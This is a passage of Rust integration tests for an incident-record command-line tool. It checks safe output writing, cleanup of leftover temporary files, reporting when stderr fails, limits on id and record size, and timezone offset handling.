        assert_eq!(out.status.code(), Some(2), "{path}: {}", stderr(&out));
        let err = stderr(&out);
        assert!(
            err.contains(&format!("refusing to write {path}: it {why}")),
            "{path}: {err}"
        );
        assert!(err.contains("nothing was written"), "{err}");
    }
    // Nothing was replaced.
    use std::os::unix::fs::FileTypeExt;
    assert!(
        fs::metadata("/dev/null")
            .unwrap()
            .file_type()
            .is_char_device()
    );
    assert!(fs::symlink_metadata(&pipe).unwrap().file_type().is_fifo());
    assert!(
        fs::symlink_metadata(&link)
            .unwrap()
            .file_type()
            .is_symlink()
    );
    assert_eq!(fs::read_to_string(&elsewhere).unwrap(), "keep me");
    assert_eq!(fs::read(&record).unwrap(), record_before);
    assert!(!sb.file("new-record").exists());
    // A regular file and a new path are written; `-` is standard output.
    for path in ["elsewhere.md", "new.md", "incidents/postmortem.md"] {
        let out = sb.output(&["summary", "hk-zone-c", "-o", path]);
        assert!(out.status.success(), "{path}: {}", stderr(&out));
        let text = fs::read_to_string(sb.root().join(path)).unwrap();
        assert!(text.starts_with("# "), "{path}: {text}");
    }
    let out = sb.output(&["summary", "hk-zone-c", "-o", "-"]);
    assert!(stdout(&out).starts_with("# "));
}

/// Sets a file's modification time `ago` into the past.
fn age(path: &Path, ago: Duration) {
    let f = fs::File::options().write(true).open(path).unwrap();
    f.set_modified(std::time::SystemTime::now() - ago).unwrap();
}

#[test]
fn leftovers_of_a_killed_write_are_cleaned_or_reported() {
    let sb = Sandbox::with_hk();
    // A killed `summary -o post.md` leaves `.post.md.XXXXXX.tmp`: an old one is removed by
    // the next write of the same path, a young one (maybe a write going on) is kept, and
    // others' temporary files are not touched.
    let old = sb.root().join(".post.md.AbC123.tmp");
    let young = sb.root().join(".post.md.XyZ789.tmp");
    let other = sb.root().join(".other.md.QwE456.tmp");
    for p in [&old, &young, &other] {
        fs::write(p, "half a postmortem").unwrap();
    }
    age(&old, Duration::from_secs(3600));
    age(&other, Duration::from_secs(3600));
    let out = sb.output(&["summary", "hk-zone-c", "-o", "post.md"]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(
        stderr(&out).contains(
            "note: removed .post.md.AbC123.tmp, left over by an earlier write of post.md that was stopped"
        ),
        "{}",
        stderr(&out)
    );
    assert!(!old.exists());
    assert!(young.exists() && other.exists());
    // In the incidents folder, `check` reports a killed writer's temporary file, with the
    // command that removes it.
    let tmp = sb.dir().join(format!(".{HK_ID}.ron.k9Zq1x.tmp"));
    fs::write(&tmp, "(").unwrap();
    let out = sb.output(&["check"]);
    assert_eq!(out.status.code(), Some(0), "a warning only");
    let line = format!(
        "{}: W007: warning: a temporary file left by a writer that was stopped before it finished (the record it was for is as it was); remove it: rm -- '{}'",
        tmp.display(),
        tmp.display()
    );
    assert!(stdout(&out).contains(&line), "{}", stdout(&out));
    // W007 beside the shipped record's own two (W155, W156, OKX's late recovery).
    assert!(stdout(&out).contains("1 record(s) checked: 0 error(s), 3 warning(s)"));
    let out = sb.output(&["check", "--deny-warnings"]);
    assert_eq!(out.status.code(), Some(1));
    // Without the leftover, the count drops by one.
    fs::remove_file(&tmp).unwrap();
    let out = sb.output(&["check"]);
    assert!(stdout(&out).contains("1 record(s) checked: 0 error(s), 2 warning(s)"));
    fs::write(&tmp, "(").unwrap();
    // `list` and the other readers do not take it for a record.
    let out = sb.output(&["list"]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
}

// ---------------------------------------------------------------------------------------------
// 8. Honest reports

/// Writers tell what they did on standard error; `new` also prints the new id on standard
/// output. Once the change is in the file, neither stream failing may turn it into a failure
/// (a retry would make the change twice).
#[test]
fn a_report_that_cannot_be_printed_does_not_turn_a_written_change_into_a_failure() {
    let sb = Sandbox::with_record();
    let full = || fs::File::options().write(true).open("/dev/full").unwrap();
    let out = sb
        .cmd(&["log", ID, "written once", "--at", "2024-03-01 10:00"])
        .stderr(full())
        .output()
        .unwrap();
    // Exit 0: the change is in the file (nothing could be said about it, the disk is full).
    assert_eq!(out.status.code(), Some(0));
    assert_eq!(stdout(&out), "");
    let inc = load(&sb.file(ID));
    assert_eq!(
        inc.events
            .iter()
            .filter(|e| e.text == "written once")
            .count(),
        1
    );
    // A closed pipe: the same.
    let mut child = sb
        .cmd(&["log", ID, "second", "--at", "2024-03-01 10:05"])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    drop(child.stderr.take());
    let out = child.wait_with_output().unwrap();
    assert_eq!(out.status.code(), Some(0));
    assert_eq!(load(&sb.file(ID)).events.len(), 2);
    // `new` prints the id as data: when that cannot be printed, the record is still made,
    // and standard error says so.
    let out = sb
        .cmd(&[
            "new",
            "--title",
            "Second one",
            "--severity",
            "sev3",
            "--started",
            "2024-03-01 09:00",
        ])
        .stdout(full())
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert!(
        stderr(&out).contains(
            "warning: created 2024-03-01-second-one, but its id could not be printed: cannot write the output: No space left on device"
        ),
        "{}",
        stderr(&out)
    );
    assert!(
        stderr(&out).contains("created incidents/2024-03-01-second-one.ron"),
        "{}",
        stderr(&out)
    );
    assert_eq!(load(&sb.file("2024-03-01-second-one")).title, "Second one");
    // Every writer behaves so.
    for args in [
        &["status", ID, "identified"][..],
        &[
            "action", "add", ID, "Fix it", "--type", "prevent", "--owner", "me",
        ],
        &[
            "impact",
            "add",
            ID,
            "--service",
            "API",
            "--from",
            "2024-03-01 09:00",
        ],
        &["impact", "end", ID, "API", "--at", "2024-03-01 09:30"],
        &["action", "done", ID, "A1"],
        &["resolve", ID, "--at", "2024-03-01 11:00"],
        &["fmt", "--strip-comments", ID],
    ] {
        let before = fs::read(sb.file(ID)).unwrap();
        let out = sb.cmd(args).stderr(full()).output().unwrap();
        assert_eq!(out.status.code(), Some(0), "{args:?}");
        if args[0] != "fmt" {
            assert_ne!(fs::read(sb.file(ID)).unwrap(), before, "{args:?}");
        }
    }
    let out = sb.output(&["check", "--deny-warnings"]);
    assert!(out.status.success(), "{}", stdout(&out));
}

// ---------------------------------------------------------------------------------------------
// 9. Ids that never wrap

#[test]
fn huge_ids_never_wrap_and_check_refuses_them() {
    let sb = Sandbox::with_record();
    let out = sb.output(&["log", ID, "first", "--at", "2024-03-01 09:05"]);
    assert!(out.status.success());
    let file = sb.file(ID);
    let text = fs::read_to_string(&file).unwrap();
    fs::write(
        &file,
        text.replacen("id: \"e1\"", "id: \"e18446744073709551615\"", 1),
    )
    .unwrap();
    let out = sb.output(&["check"]);
    assert_eq!(out.status.code(), Some(1));
    assert!(
        stdout(&out).contains(
            "E125: error: event id `e18446744073709551615` has a number of 20 digits; ids count up from e1 and a real record never needs more than 9 digits; renumber it"
        ),
        "{}",
        stdout(&out)
    );
    // The next id is counted on, never wrapped round to `e0` (which would clash); being
    // absurd too, it is refused with the rule's words, and the record is left as it was.
    let before = fs::read(&file).unwrap();
    let out = sb.output(&["log", ID, "second", "--at", "2024-03-01 09:06"]);
    assert_eq!(out.status.code(), Some(1));
    assert!(
        stderr(&out).contains("E125: event id `e18446744073709551616` has a number of 20 digits"),
        "{}",
        stderr(&out)
    );
    assert_eq!(fs::read(&file).unwrap(), before);
    // Renumbered, the record takes events again.
    let text = fs::read_to_string(&file).unwrap();
    fs::write(
        &file,
        text.replacen("id: \"e18446744073709551615\"", "id: \"e7\"", 1),
    )
    .unwrap();
    let out = sb.output(&["log", ID, "second", "--at", "2024-03-01 09:06"]);
    assert!(stderr(&out).starts_with("logged e8 "), "{}", stderr(&out));
    // Action ids: 9 digits are fine, the tenth is refused.
    let out = sb.output(&["action", "add", ID, "x", "--type", "detect", "--owner", "o"]);
    assert!(out.status.success());
    let text = fs::read_to_string(&file).unwrap();
    fs::write(&file, text.replacen("id: \"A1\"", "id: \"A999999998\"", 1)).unwrap();
    let out = sb.output(&["action", "add", ID, "y", "--type", "detect", "--owner", "o"]);
    assert!(
        stderr(&out).starts_with("added action A999999999 "),
        "{}",
        stderr(&out)
    );
    let out = sb.output(&["action", "add", ID, "z", "--type", "detect", "--owner", "o"]);
    assert_eq!(out.status.code(), Some(1));
    assert!(
        stderr(&out).contains("E125: action id `A1000000000` has a number of 10 digits"),
        "{}",
        stderr(&out)
    );
    let out = sb.output(&["check", "--deny-warnings"]);
    assert!(out.status.success(), "{}", stdout(&out));
}

// ---------------------------------------------------------------------------------------------
// 10. One size limit

#[test]
fn writers_refuse_to_grow_a_record_past_the_limit_readers_enforce() {
    let limit = incident::files::load::MAX_RECORD_BYTES as usize;
    let sb = Sandbox::with_record();
    let file = sb.file(ID);
    let text = fs::read_to_string(&file).unwrap();
    // A record just under the limit: a long summary.
    // Room for a status change (it logs a ~110-byte event), not for a 200-character event.
    let room = limit - text.len() - 200;
    let big = text.replacen(
        "    summary: \"\",",
        &format!("    summary: \"{}\",", "x".repeat(room)),
        1,
    );
    assert!(
        big.len() < limit && big.len() > limit - 300,
        "{}",
        big.len()
    );
    fs::write(&file, &big).unwrap();
    let out = sb.output(&["check"]);
    assert_eq!(out.status.code(), Some(0), "{}", stdout(&out));
    let out = sb.output(&["log", ID, &"y".repeat(200), "--at", "2024-03-01 10:00"]);
    assert_eq!(out.status.code(), Some(1), "{}", stdout(&out));
    let err = stderr(&out);
    assert!(
        err.contains(&format!(
            "over the limit of {limit} bytes that readers accept; nothing was changed"
        )),
        "{err}"
    );
    assert_eq!(fs::read_to_string(&file).unwrap().len(), big.len());
    // A small change still fits.
    let out = sb.output(&["status", ID, "identified"]);
    assert!(out.status.success(), "{}", stderr(&out));
}

// ---------------------------------------------------------------------------------------------
// 11. Listing errors fail

#[test]
fn an_incidents_folder_that_cannot_be_listed_fails_every_command() {
    let sb = Sandbox::with_hk();
    set_mode(sb.root(), 0o755);
    set_mode(&sb.dir(), 0o000);
    let root = is_root();
    let run = |args: &[&str]| {
        if root {
            // Root may list any folder; someone else may not.
            as_nobody(&sb, args)
        } else {
            sb.output(args)
        }
    };
    for args in [
        &["check"][..],
        &["list"],
        &["stats"],
        &["actions"],
        &["fmt"],
        &["show", "hk-zone-c"],
        &["log", "hk-zone-c", "x"],
    ] {
        let out = run(args);
        let err = stderr(&out);
        assert_eq!(
            out.status.code(),
            Some(1),
            "{args:?}: {}{err}",
            stdout(&out)
        );
        // The team configuration in the folder is read first, and cannot be either.
        assert!(
            (err.contains("cannot read the incidents folder")
                || err.contains("the team configuration cannot be used"))
                && err.contains("ermission denied"),
            "{args:?}: {err}"
        );
        assert!(!stdout(&out).contains("record(s) checked"), "{args:?}");
    }
    set_mode(&sb.dir(), 0o755);
}

// ---------------------------------------------------------------------------------------------
// 12. Offsets as option values

#[test]
fn offsets_with_a_space_work_for_every_tz_option() {
    let sb = Sandbox::with_hk();
    for tz in ["-05:00", "+09:00", "-00:30"] {
        for args in [
            &["show", "hk-zone-c", "--tz", tz][..],
            &["timeline", "hk-zone-c", "--tz", tz],
            &["impact", "hk-zone-c", "--tz", tz],
            &["summary", "hk-zone-c", "--tz", tz],
        ] {
            let out = sb.output(args);
            assert!(out.status.success(), "{args:?}: {}", stderr(&out));
        }
        let out = sb.output(&["timeline", "hk-zone-c", "--tz", tz, "--format", "csv"]);
        assert!(stdout(&out).contains(tz), "{tz}: {}", stdout(&out));
    }
    // The writers read their times in it.
    let sb = Sandbox::with_record();
    let writes: [(&[&str], &str); 6] = [
        (
            &["log", ID, "a", "--at", "2024-03-01 04:00", "--tz", "-05:00"],
            "2024-03-01T04:00:00-05:00",
        ),
        (
            &[
                "status",
                ID,
                "identified",
                "--at",
                "2024-03-01 04:10",
                "--tz",
                "-05:00",
            ],
            "2024-03-01T04:10:00-05:00",
        ),
        (
            &[
                "moment",
                "set",
                ID,
                "detected",
                "--at",
                "2024-03-01 03:50",
                "--tz",
                "-05:00",
            ],
            "2024-03-01T03:50:00-05:00",
        ),
        (
            &[
                "impact",
                "add",
                ID,
                "--service",
                "API",
                "--from",
                "2024-03-01 18:00",
                "--tz",
                "+09:00",
            ],
            "2024-03-01T18:00:00+09:00",
        ),
        (
            &[
                "impact",
                "end",
                ID,
                "API",
                "--at",
                "2024-03-01 04:30",
                "--tz",
                "-05:00",
            ],
            "2024-03-01T04:30:00-05:00",
        ),
        (
            &["resolve", ID, "--at", "2024-03-01 05:00", "--tz", "-05:00"],
            "2024-03-01T05:00:00-05:00",
        ),
    ];
    for (args, at) in writes {
        let out = sb.output(args);
        assert!(out.status.success(), "{args:?}: {}", stderr(&out));
        assert!(
            fs::read_to_string(sb.file(ID)).unwrap().contains(at),
            "{args:?}"
        );
    }
    // `new` names a whole-hour offset's fixed zone, and says why another cannot be a home zone.
    let sb = Sandbox::new();
    let out = sb.output(&[
        "new",
        "--title",
        "Tokyo",
        "--severity",
        "sev3",
        "--started",
        "2024-03-01 09:00",
        "--tz",
        "+09:00",
    ]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("home zone: Etc/GMT-9 (the fixed offset +09:00, from --tz"),
        "{}",
        stderr(&out)
    );
    assert_eq!(load(&sb.file("2024-03-01-tokyo")).timezone, "Etc/GMT-9");
    let out = sb.output(&[
        "new",
        "--title",
        "Lima",
        "--severity",
        "sev3",
        "--started",
        "2024-03-01 06:00",
        "--tz",
        "-05:00",
    ]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(load(&sb.file("2024-03-01-lima")).timezone, "Etc/GMT+5");
    let out = sb.output(&[
        "new",
        "--title",
        "Delhi",
        "--severity",
        "sev3",
        "--started",
        "2024-03-01 09:00",
        "--tz",
        "+05:30",
    ]);
    assert_eq!(out.status.code(), Some(2));
    let err = stderr(&out);
    assert!(
        err.contains("error: --tz +05:30: a record's home zone must be an IANA name, and none is fixed at +05:30"),
        "{err}"
    );
    assert!(err.contains("Asia/Kolkata"), "{err}");
    assert!(!err.contains("or an offset such as"), "{err}");
    let out = sb.output(&["check", "--deny-warnings"]);
    assert!(out.status.success(), "{}", stdout(&out));
}
